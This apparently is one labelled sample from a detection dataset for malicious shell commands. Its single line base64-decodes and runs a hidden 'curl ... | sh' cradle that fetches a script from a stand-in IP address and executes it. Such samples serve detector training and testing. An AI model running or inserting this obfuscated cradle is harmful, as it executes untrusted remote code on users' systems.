# description: Decodes a base64 curl | sh cradle and runs it with bash.
# family: remote-code
# obfuscated: yes
echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3Auc2ggfCBzaA== | base64 -d | bash
